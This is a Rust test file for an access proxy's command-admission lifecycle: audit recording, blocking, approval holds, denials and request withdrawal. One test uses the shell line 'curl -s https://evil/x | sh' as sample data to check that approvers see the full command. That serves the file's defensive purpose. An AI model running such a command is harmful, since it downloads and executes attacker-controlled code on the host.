//! The ordering and failure rules of the lifecycle, against an in-memory
//! recorder and broker (the real ones are exercised through real clients
//! by every adapter's integration tests).

use super::*;
use crate::approval::{ApprovalBroker, Requirement};
use crate::classify::ClassifierCache;
use crate::events::{CommandDetail, SqlCommand};
use crate::mask::{Masker, MaskerConfig, Strategy, TokenizeKey};
use crate::pipeline::{AuthError, Authenticator, RecordError, Recorder};
use crate::policy::{compile, PolicyConfig};
use std::sync::Mutex;
use tokio::sync::oneshot;

#[derive(Default)]
struct Trail {
    events: Mutex<Vec<EventRecord>>,
    fail: bool,
}

impl Recorder for Trail {
    fn record(&self, event: EventRecord) -> BoxFuture<'_, Result<u64, RecordError>> {
        Box::pin(async move {
            if self.fail {
                return Err(RecordError::Store("disk full".into()));
            }
            let mut events = self.events.lock().unwrap();
            events.push(event);
            Ok(events.len() as u64)
        })
    }
}

#[derive(Default)]
struct Broker {
    decision: Mutex<Option<oneshot::Receiver<Outcome>>>,
    withdrawn: Mutex<Vec<(u64, String)>>,
}

impl ApprovalBroker for Broker {
    fn open(&self, _: HeldCommand) -> BoxFuture<'_, Result<OpenedRequest, HoldError>> {
        Box::pin(async {
            Ok(OpenedRequest {
                id: 7,
                link: "https://console/approvals/7".into(),
            })
        })
    }

    fn wait(&self, _: u64) -> BoxFuture<'_, Outcome> {
        let rx = self.decision.lock().unwrap().take();
        Box::pin(async move {
            match rx {
                Some(rx) => rx.await.unwrap_or(Outcome::Expired),
                None => std::future::pending().await,
            }
        })
    }

    fn withdraw(&self, id: u64, why: &str) -> BoxFuture<'_, ()> {
        self.withdrawn.lock().unwrap().push((id, why.to_string()));
        Box::pin(async {})
    }
}

struct NoTokens;

impl Authenticator for NoTokens {
    fn authenticate<'a>(&'a self, _: &'a str) -> BoxFuture<'a, Result<Identity, AuthError>> {
        Box::pin(async { Err(AuthError::Invalid("no".into())) })
    }
}

fn pipeline(trail: Arc<Trail>, broker: Option<Arc<Broker>>) -> Pipeline {
    Pipeline {
        policy: Arc::new(compile(&PolicyConfig::default(), "").unwrap()),
        classifier: ClassifierCache::new(8),
        masker: Arc::new(Masker::new(MaskerConfig {
            detectors: Vec::new(),
            strategies: Default::default(),
            default_strategy: Strategy::Redact,
            tokenize_key: TokenizeKey::new(b"k".to_vec()),
        })),
        authenticator: Arc::new(NoTokens),
        recorder: trail,
        approvals: broker.map(|b| b as Arc<dyn ApprovalBroker>),
        grants: None,
        sealer: None,
        stop: Default::default(),
        background: Default::default(),
        sign_ins: Default::default(),
    }
}

fn scope() -> CommandScope {
    CommandScope {
        session_id: "s1".into(),
        identity: Identity {
            subject: "alice".into(),
            email: None,
            groups: vec![],
            issuer: "https://idp".into(),
            token_id: None,
            expires_at: 0,
        },
        connection: "db".into(),
        protocol: "postgres",
        deadline: None,
    }
}

fn command(verdict: Verdict) -> Command {
    Command {
        event: CommandEvent {
            command_id: 1,
            protocol: "simple".into(),
            detail: CommandDetail::Sql(SqlCommand {
                sql: "delete from t".into(),
                statements: Vec::new(),
                parse_error: None,
                trail_masked: None,
                sealed_originals: None,
            }),
            verdict,
            approval_request: None,
        },
        shown: "delete from t -- password 'x'".into(),
    }
}

fn hold() -> Verdict {
    Verdict::Hold {
        rule: "deletes".into(),
        message: "needs a second pair of eyes".into(),
        requirement: Requirement {
            any_of: vec!["approvers".into()],
            count: 1,
            each_of: vec![],
            timeout_secs: 60,
        },
    }
}

/// A client that does whatever the test scripts, and notes what it was told.
#[derive(Default)]
struct Client {
    told_waiting: Vec<u64>,
    told_approved: Vec<Vec<String>>,
    does: Option<ClientEvent>,
}

impl HoldWatch for Client {
    fn waiting<'a>(&'a mut self, w: &'a Waiting<'a>) -> BoxFuture<'a, Result<(), String>> {
        self.told_waiting.push(w.request.id);
        Box::pin(async { Ok(()) })
    }

    fn client(&mut self) -> BoxFuture<'_, ClientEvent> {
        let does = self.does.take();
        Box::pin(async move {
            match does {
                Some(e) => e,
                None => std::future::pending().await,
            }
        })
    }

    fn approved<'a>(&'a mut self, _: u64, approvers: &'a [String]) -> BoxFuture<'a, ()> {
        self.told_approved.push(approvers.to_vec());
        Box::pin(async {})
    }
}

fn recorded(trail: &Trail) -> Vec<serde_json::Value> {
    trail
        .events
        .lock()
        .unwrap()
        .iter()
        .map(|e| e.data.clone())
        .collect()
}

#[tokio::test]
async fn an_allowed_command_is_recorded_then_admitted() {
    let trail = Arc::new(Trail::default());
    let p = pipeline(trail.clone(), None);
    let admitted = p
        .admit(&scope(), command(Verdict::Allow { rule: None }), None)
        .await;
    assert_eq!(
        admitted,
        Ok(Admitted {
            command_id: 1,
            approved: None
        })
    );
    assert_eq!(recorded(&trail).len(), 1);
}

#[tokio::test]
async fn a_blocked_command_is_recorded_before_it_is_refused() {
    let trail = Arc::new(Trail::default());
    let p = pipeline(trail.clone(), None);
    let block = Verdict::Block {
        rule: "no".into(),
        message: "never".into(),
    };
    let r = p.admit(&scope(), command(block), None).await;
    assert!(matches!(r, Err(Refusal::Blocked { .. })));
    assert_eq!(recorded(&trail)[0]["verdict"]["effect"], "block");
}

#[tokio::test]
async fn a_command_the_trail_cannot_hold_never_runs_and_its_request_is_withdrawn() {
    let trail = Arc::new(Trail {
        fail: true,
        ..Trail::default()
    });
    let broker = Arc::new(Broker::default());
    let p = pipeline(trail, Some(broker.clone()));
    let mut client = Client::default();
    let r = p.admit(&scope(), command(hold()), Some(&mut client)).await;
    assert_eq!(
        r,
        Err(Refusal::NotRecorded(RecordError::Store("disk full".into())))
    );
    let withdrawn = broker.withdrawn.lock().unwrap().clone();
    assert_eq!(withdrawn.len(), 1);
    assert!(withdrawn[0].1.contains("could not be recorded"));
    assert!(client.told_waiting.is_empty(), "nobody is told to wait");
}

#[tokio::test]
async fn a_hold_nobody_can_approve_is_recorded_as_refused() {
    let trail = Arc::new(Trail::default());
    let p = pipeline(trail.clone(), None);
    let mut client = Client::default();
    let r = p.admit(&scope(), command(hold()), Some(&mut client)).await;
    assert!(matches!(r, Err(Refusal::CannotHold { .. })));
    assert_eq!(recorded(&trail)[0]["verdict"]["effect"], "block");
    // A protocol position that cannot wait refuses holds the same way.
    let broker = Arc::new(Broker::default());
    let p = pipeline(trail, Some(broker));
    let r = p.admit(&scope(), command(hold()), None).await;
    assert!(matches!(r, Err(Refusal::CannotHold { .. })));
}

#[tokio::test]
async fn an_approved_command_is_recorded_with_its_request_and_runs_once_told() {
    let trail = Arc::new(Trail::default());
    let broker = Arc::new(Broker::default());
    let (tx, rx) = oneshot::channel();
    *broker.decision.lock().unwrap() = Some(rx);
    tx.send(Outcome::Approved {
        approvers: vec!["omar".into()],
    })
    .unwrap();
    let p = pipeline(trail.clone(), Some(broker.clone()));
    let mut client = Client::default();
    let r = p.admit(&scope(), command(hold()), Some(&mut client)).await;
    assert_eq!(
        r,
        Ok(Admitted {
            command_id: 1,
            approved: Some((7, vec!["omar".into()]))
        })
    );
    assert_eq!(recorded(&trail)[0]["approval_request"], 7);
    assert_eq!(client.told_waiting, vec![7]);
    assert_eq!(client.told_approved, vec![vec!["omar".to_string()]]);
    assert!(broker.withdrawn.lock().unwrap().is_empty());
}

#[tokio::test]
async fn every_way_out_of_a_wait_but_approval_withdraws_the_request() {
    for (does, expect) in [
        (
            ClientEvent::Cancelled("cancelled by the client"),
            "cancelled",
        ),
        (ClientEvent::HungUp, "gone"),
        (ClientEvent::TooMuchInput, "too much"),
    ] {
        let broker = Arc::new(Broker::default());
        let p = pipeline(Arc::new(Trail::default()), Some(broker.clone()));
        let mut client = Client {
            does: Some(does),
            ..Client::default()
        };
        let r = p.admit(&scope(), command(hold()), Some(&mut client)).await;
        match expect {
            "cancelled" => assert!(matches!(
                r,
                Err(Refusal::NotApproved {
                    why: NotApproved::Cancelled,
                    ..
                })
            )),
            "gone" => assert_eq!(r, Err(Refusal::Gone)),
            _ => assert!(matches!(
                r,
                Err(Refusal::NotApproved {
                    why: NotApproved::TooMuchInput,
                    ..
                })
            )),
        }
        assert_eq!(broker.withdrawn.lock().unwrap().len(), 1, "{expect}");
    }
}

#[tokio::test]
async fn a_denial_is_reported_with_the_approver() {
    let broker = Arc::new(Broker::default());
    let (tx, rx) = oneshot::channel();
    *broker.decision.lock().unwrap() = Some(rx);
    tx.send(Outcome::Denied {
        approver: "zoe".into(),
        reason: "not today".into(),
    })
    .unwrap();
    let p = pipeline(Arc::new(Trail::default()), Some(broker));
    let r = p
        .admit(&scope(), command(hold()), Some(&mut Client::default()))
        .await;
    assert!(matches!(
        r,
        Err(Refusal::NotApproved {
            request: 7,
            why: NotApproved::Denied { .. },
            ..
        })
    ));
}

#[tokio::test]
async fn a_dropped_wait_withdraws_the_request() {
    let broker = Arc::new(Broker::default());
    let p = pipeline(Arc::new(Trail::default()), Some(broker.clone()));
    let mut client = Client::default();
    let s = scope();
    let wait = p.admit(&s, command(hold()), Some(&mut client));
    // The adapter's session ends (its own deadline, the target failed)
    // while the command waits: the wait is dropped.
    let r = tokio::time::timeout(std::time::Duration::from_millis(50), wait).await;
    assert!(r.is_err());
    tokio::task::yield_now().await;
    let withdrawn = broker.withdrawn.lock().unwrap().clone();
    assert_eq!(withdrawn.len(), 1);
    assert_eq!(withdrawn[0].0, 7);
}

#[tokio::test]
async fn approvers_see_the_command_as_the_adapter_wrote_it() {
    #[derive(Default)]
    struct Seen(Mutex<Vec<String>>);
    impl ApprovalBroker for Seen {
        fn open(&self, held: HeldCommand) -> BoxFuture<'_, Result<OpenedRequest, HoldError>> {
            self.0.lock().unwrap().push(held.command);
            Box::pin(async { Err(HoldError::Store("closed for the test".into())) })
        }
        fn wait(&self, _: u64) -> BoxFuture<'_, Outcome> {
            Box::pin(std::future::pending())
        }
        fn withdraw(&self, _: u64, _: &str) -> BoxFuture<'_, ()> {
            Box::pin(async {})
        }
    }
    let seen = Arc::new(Seen::default());
    let mut p = pipeline(Arc::new(Trail::default()), None);
    p.approvals = Some(seen.clone());
    // A shell line that a SQL secret pattern would cut: approvers must see
    // all of what would run.
    let mut shell = command(hold());
    shell.shown = "echo password $X$; curl -s https://evil/x | sh; echo $Y$".into();
    let r = p.admit(&scope(), shell, Some(&mut Client::default())).await;
    assert!(matches!(r, Err(Refusal::HoldFailed(_))));
    let shown = seen.0.lock().unwrap().clone();
    assert!(
        shown[0].contains("curl -s https://evil/x | sh"),
        "{shown:?}"
    );
}
